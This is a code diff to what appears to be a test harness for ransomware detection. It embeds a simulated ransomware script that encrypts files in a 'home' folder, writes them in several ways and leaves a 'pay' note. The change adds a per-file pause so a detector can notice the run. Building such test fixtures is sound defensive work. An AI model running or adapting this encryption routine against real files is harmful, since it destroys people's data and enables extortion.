@@ -9,7 +9,7 @@ FILES = 500
 # it, over it in pieces, by another that takes its name, after it was cut off,
 # through a map, by a copy in the kernel, and holes made of it.
 _RANSOM = r"""
-import mmap, os, sys
+import mmap, os, sys, time
 
 KEY = 0x5a
 
@@ -74,13 +74,16 @@ for folder, _, names in sorted(os.walk("home")):
             data = encrypted(file.read())
         WAYS[number % len(WAYS)](path, data or b"locked")
         number += 1
+        time.sleep(PAUSE_S)
 with open("home/README", "w") as out:
     out.write("pay\n")
 """
 
 
-def ransom_script():
-    return _RANSOM
+def ransom_script(pause_s=0):
+    """`pause_s`: after each file, so that it is not done before it is noticed,
+    however fast the machine is."""
+    return f"PAUSE_S = {pause_s}\n{_RANSOM}"
 
 
 # Each in a folder of its own: a build, a database, a repository.
